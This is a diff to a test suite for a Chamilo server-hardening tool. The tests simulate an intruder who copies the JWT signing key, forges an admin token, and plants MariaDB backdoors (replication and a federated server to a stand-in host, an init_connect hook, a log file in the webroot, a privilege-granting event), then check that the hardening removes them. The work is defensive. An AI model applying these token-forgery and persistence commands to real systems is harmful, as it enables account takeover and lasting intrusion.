@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import json
 import re
 from pathlib import Path
 
@@ -10,6 +11,8 @@ import pytest
 
 from tests.hosts.hardening import Playbook, changed, missing_from_the_portal
 from tests.hosts.test_audit_data import audit, install
+from tests.testbed import authority
+from tests.testbed.app.selfcheck import PASSWORDS, Browser
 from tests.testbed.hosts import Host
 
 ROOT = "/var/www/chamilo"
@@ -60,6 +63,49 @@ INNOCENT = {
     "public/plugin/Timetable/src/page.php": "<?php // ours",
     "public/plugin/Timetable/view/page.tpl": "{$hours}",
 }
+
+
+# With the application's own account, as the sloppy host has it: each with the statement that removes it.
+IN_THE_DATABASE = {
+    "ALTER USER root@localhost IDENTIFIED VIA mysql_native_password USING PASSWORD('evil-1') OR unix_socket": (
+        "ALTER USER 'root'@'localhost' IDENTIFIED VIA mysql_native_password USING 'invalid' OR unix_socket;"
+    ),
+    "ALTER USER 'mariadb.sys'@localhost IDENTIFIED VIA mysql_native_password USING PASSWORD('evil-1') ACCOUNT UNLOCK": (
+        "ALTER USER 'mariadb.sys'@'localhost' ACCOUNT LOCK;"
+    ),
+    "CHANGE MASTER 'x' TO MASTER_HOST='192.0.2.66', MASTER_USER='x'; START SLAVE 'x'": "RESET SLAVE 'x' ALL;",
+    "CREATE SERVER evil FOREIGN DATA WRAPPER mysql OPTIONS (HOST '192.0.2.66')": "DROP SERVER `evil`;",
+    "SET GLOBAL init_connect = 'CALL x()'": "SET GLOBAL init_connect = '';",
+    f"SET GLOBAL general_log_file = '{ROOT}/public/build/note.txt'": "SET GLOBAL general_log_file = DEFAULT;",
+    "CREATE DATABASE hidden; CREATE EVENT hidden.again ON SCHEDULE EVERY 1 DAY DO GRANT ALL ON *.* TO x@localhost": (
+        "DROP EVENT `hidden`.`again`;"
+    ),
+}
+
+
+class Kept:
+    """What an intruder takes along: a copy of the key that signs tokens, and the session of an administrator."""
+
+    def __init__(self, host: Host) -> None:
+        self._host = host
+        self.login = Browser(f"http://{host.domain}", host.address)
+        assert self.login.login("admin", PASSWORDS["admin"]).status == 200
+        host.run(f"cp {ROOT}/config/jwt/private.pem {MARKS}/key && cp {ROOT}/config/jwt/public.pem {MARKS}/half")
+        parts = [json.dumps(part).encode() for part in ({"alg": "RS256"}, {"username": "admin", "exp": 2**31})]
+        body = b".".join(base64.urlsafe_b64encode(part).rstrip(b"=") for part in parts).decode()
+        sign = f"openssl dgst -sha256 -sign {MARKS}/key -passin pass:your_secret_passphrase"
+        signature = host.run(f"{sign} | base64 -w0 | tr +/ -_ | tr -d =", data=body).stdout
+        self._token = f"Bearer {body}.{signature}"
+        sql = ";".join(IN_THE_DATABASE)
+        host.run("mariadb -h127.0.0.1 -uchamilo -pchamilo-db-Password-1", user="www-data", data=sql)
+
+    def opens(self, scheme: str) -> set[str]:
+        """Where it makes the intruder an administrator."""
+        base, ca = f"{scheme}://{self._host.domain}", str(authority.certificate())
+        users = Browser(base, self._host.address, ca).get("/api/users", Authorization=self._token)
+        session = Browser(base, self._host.address, ca, cookies=dict(self.login.cookies)).get("/check-session")
+        ways = {"token": users.status == 200, "session": b'"isAuthenticated":true' in session.body}
+        return {name for name, open_ in ways.items() if open_}
 
 
 def as_the_web_user(host: Host, path: str, text: str) -> None:
@@ -126,6 +172,8 @@ def test_what_an_intruder_planted_is_named_or_cannot_run_and_nothing_else_is(
     by_package = fresh.web == "apache"
     options = {"chamilo_release_archive": package(fresh, tmp_path)} if by_package else {}
     plant(fresh)
+    kept = Kept(fresh)
+    assert kept.opens("http") == {"token", "session"}
     install(fresh)
     fresh.run("apt-get -qq update && apt-get -qq -y --no-install-recommends install git")
     before = audit(fresh, "monitoring").evidence["monitoring_compromise"]
@@ -138,9 +186,15 @@ def test_what_an_intruder_planted_is_named_or_cannot_run_and_nothing_else_is(
     assert not ran(fresh) & held
     assert fresh.run(f"grep -rl marks/compiled {ROOT}/var/cache", check=False).stdout == ""
     assert missing_from_the_portal(fresh, "https") == []
+    assert kept.opens("https") == set()
+    words = " ".join(said.split())
+    assert "Tokens that were given out are refused" in words and "everybody logs in once more" in words
     # Git refuses to work as root in what is another user's, and others cannot look into it.
     assert fresh.run(["stat", "-c", "%U %a", f"{ROOT}/.git"]).stdout == "www-data 700\n"
-    found = audit(fresh, "monitoring")
+    found = audit(fresh, "monitoring", "database", "permissions")
+    for statement in IN_THE_DATABASE.values():
+        assert statement in found.evidence["database_privileges"]
+    assert found.status["permissions_secrets"] == "pass", found.evidence["permissions_secrets"]
     assert found.status["monitoring_compromise"] == found.status["monitoring_integrity"] == "fail"
     evidence = found.evidence["monitoring_compromise"]
     listed = fresh.run(["chamilo-hardening", "integrity", "check"], check=False).stdout
